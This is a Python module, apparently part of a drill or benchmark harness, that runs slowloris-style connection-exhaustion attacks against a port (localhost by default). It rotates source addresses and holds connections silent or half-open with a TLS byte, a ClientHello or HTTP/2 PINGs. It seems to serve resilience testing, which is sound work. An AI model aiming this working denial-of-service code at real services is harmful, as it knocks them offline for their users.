"""Attacks that are connections: opened at a rate, up to a number at once, and never used as they should be."""

import contextlib
import select
import socket
import ssl
import struct
import time
from collections import Counter, deque
from dataclasses import dataclass
from itertools import cycle
from typing import Final

from bench.drill.addresses import draw_addresses
from bench.swarm import connect_from

LONGEST_POLL_SECONDS: Final = 0.01
MOST_LATE: Final = 0.1
"""Seconds of connections that are made up for at once; what could not be opened in time is left out."""
PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack("!HBBBL", 0, 0, 4, 0, 0)
"""The beginning of HTTP/2 with empty SETTINGS (RFC 9113, sections 3.4 and 6.5)."""
SETTINGS_ACK: Final = struct.pack("!HBBBL", 0, 0, 4, 1, 0)
PING: Final = struct.pack("!HBBBL", 0, 8, 6, 0, 0) + bytes(8)
PING_SECONDS: Final = 4.0


@dataclass(frozen=True, slots=True)
class Connections:
    """An attack of connections."""

    way: str
    """"silent": nothing is sent, so the kernel keeps it from the service for a while; "byte": the first byte of what
    never comes; "hello": a handshake is begun; "ping": HTTP/2 without requests."""
    per_second: float
    most: int
    """Open at once; beyond it the oldest is closed for each new one."""
    addresses: int
    prefixes: tuple[str, ...]
    seconds: float
    hold_seconds: float = 1e9
    """After which the attacker closes."""


@dataclass(slots=True, eq=False)
class _Open:
    socket: socket.socket
    opened_at: float
    is_ready: bool = False


def client_hello() -> bytes:
    """Return what a client sends first in TLS 1.3: to send it costs nothing, to answer it a signature."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing).do_handshake()
    return outgoing.read()


class Opener:
    """Carries out one attack against one port."""

    def __init__(self, attack: Connections, port: int, host6: str = "::1") -> None:
        self.results: Counter[str] = Counter()
        """"opened", and of these "closed" by the server or "refused" before they were there."""
        self.most_open = 0
        self._attack = attack
        self._port = port
        self._host6 = host6
        self._addresses = cycle(draw_addresses(attack.prefixes, attack.addresses))
        first = {"silent": b"", "byte": b"\x16", "hello": client_hello(), "ping": PREFACE + SETTINGS_ACK + PING}
        self._first = first[attack.way]
        self._epoll = select.epoll()
        self._open: dict[int, _Open] = {}
        self._by_age: deque[_Open] = deque()
        self._to_ping: deque[tuple[float, _Open]] = deque()

    def run(self) -> None:
        """Open connections for as long as the attack lasts, then close all."""
        began = time.monotonic()
        due = 0.0
        while (now := time.monotonic() - began) < self._attack.seconds:
            due = max(due, (now - MOST_LATE) * self._attack.per_second)
            while due < now * self._attack.per_second:
                self._open_one(now)
                due += 1
            self._let_go(now)
            for number, event in self._epoll.poll(LONGEST_POLL_SECONDS):
                self._step(number, event, now)
            if self._attack.way == "ping":
                self._ping(now)
        for one in list(self._open.values()):
            self._close(one)
        self._epoll.close()

    def _open_one(self, now: float) -> None:
        opened = connect_from(next(self._addresses), self._port, self._host6)
        one = _Open(opened, now)
        self._open[opened.fileno()] = one
        self._by_age.append(one)
        self._to_ping.append((now + PING_SECONDS, one))
        self._epoll.register(opened, select.EPOLLOUT | select.EPOLLIN)
        self.results["opened"] += 1
        self.most_open = max(self.most_open, len(self._open))

    def _let_go(self, now: float) -> None:
        while self._by_age:
            oldest = self._by_age[0]
            is_old = oldest.opened_at + self._attack.hold_seconds <= now
            if oldest.socket.fileno() >= 0 and not is_old and len(self._open) <= self._attack.most:
                return
            self._close(self._by_age.popleft())

    def _step(self, number: int, event: int, now: float) -> None:
        one = self._open.get(number)
        if one is None:
            return
        try:
            if not one.is_ready:
                error = one.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if error:
                    raise ConnectionRefusedError
                one.is_ready = True
                self._epoll.modify(one.socket, select.EPOLLIN)
                if self._first:
                    one.socket.send(self._first)
            if event & ~select.EPOLLOUT and not one.socket.recv(65_536):
                raise ConnectionResetError
        except BlockingIOError:
            return
        except OSError:
            self.results["closed" if one.is_ready else "refused"] += 1
            self.results["held ms"] += round((now - one.opened_at) * 1e3)
            self._close(one)

    def _ping(self, now: float) -> None:
        while self._to_ping and self._to_ping[0][0] <= now:
            _, one = self._to_ping.popleft()
            if one.socket.fileno() < 0:
                continue
            self._to_ping.append((now + PING_SECONDS, one))
            with contextlib.suppress(OSError):
                one.socket.send(PING)

    def _close(self, one: _Open) -> None:
        if one.socket.fileno() >= 0:
            self._open.pop(one.socket.fileno(), None)
            one.socket.close()
